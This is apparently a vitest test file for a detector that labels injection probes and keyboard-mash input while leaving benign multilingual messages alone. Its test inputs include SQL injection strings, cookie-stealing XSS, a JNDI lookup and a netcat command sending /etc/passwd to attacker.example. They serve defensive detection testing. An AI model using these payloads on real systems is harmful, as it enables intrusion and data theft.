import { describe, expect, it } from "vitest";
import { injectionProbes, mashSignals } from "./probes.ts";

const probes = (raw: string): string[] => {
  const out: string[] = [];
  injectionProbes(raw, out);
  return out;
};

const mash = (raw: string): string[] => {
  const out: string[] = [];
  mashSignals(raw, out);
  return out;
};

describe("injection probes", () => {
  it("names each payload family", () => {
    expect(probes("1' OR '1'='1' -- ")).toEqual(["probe:sql"]);
    expect(probes("x' UNION SELECT username, password FROM users--")).toEqual(["probe:sql"]);
    expect(probes("1; DROP TABLE users")).toContain("probe:sql");
    expect(probes("1 AND SLEEP(5)")).toEqual(["probe:sql"]);
    expect(probes('<script>alert("xss")</script>')).toContain("probe:script");
    expect(probes('<img src=x onerror="alert(document.cookie)">')).toContain("probe:script");
    expect(probes("{{7*7}}")).toEqual(["probe:template"]);
    expect(probes("${jndi:ldap://attacker.example/a}")).toEqual(["probe:template"]);
    expect(probes("../../../../etc/passwd")).toContain("probe:path");
    expect(probes("php://filter/convert.base64-encode/resource=index.php")).toEqual(["probe:path"]);
    expect(probes("test; cat /etc/passwd | nc attacker.example 4444")).toContain("probe:command");
  });

  it("leaves honest messages about code, prices and dates alone", () => {
    for (const honest of [
      "How do I write SELECT name FROM customers WHERE city = 'Madrid' in MySQL?",
      'I said "yes" -- and then changed my mind.',
      "Price: 2 x 3 = 6 euros, is that right?",
      "My son's teacher (Mrs. O'Neil) or her assistant = the contact.",
      "Our office is at ../ the second floor, then left",
      "Can you call me back? I'm free on Friday; ls is my initials.",
      "Quisiera reservar una mesa para cuatro el sábado a las 21:00.",
      "¿Cuánto cuesta el envío a Oporto? Gracias.",
    ])
      expect(probes(honest), honest).toEqual([]);
  });
});

describe("keyboard mash and random strings", () => {
  it("fires when such tokens are most of the text", () => {
    expect(mash("asdfghjkl")).toEqual(["mash"]);
    expect(mash("sdfsdf sdfsdf")).toEqual(["mash"]);
    expect(mash("qwerty qwertyuiop")).toEqual(["mash"]);
    expect(mash("xkqzvbnt wpfrst")).toEqual(["mash"]);
    expect(mash("HcQzRfUJmPb")).toEqual(["random-string"]);
    expect(mash("nVbTyHsKdL xPwQzRtY")).toEqual(["random-string"]);
  });

  it("leaves words, emphasis and codes in a sentence alone, in many languages", () => {
    for (const honest of [
      "trees",
      "soooo good, yessss",
      "It's been reverted",
      "Zamówienie numer A7X9K2 nie dotarło, proszę o kontakt.",
      "Wszystkich serdecznie pozdrawiam",
      "Dobrý den, čtvrtek mi vyhovuje.",
      "Mijn iPhone en MacBook zijn kapot, kunt u helpen?",
      "hahaha jajaja kkkkk",
      "Ok",
    ])
      expect(mash(honest), honest).toEqual([]);
  });
});
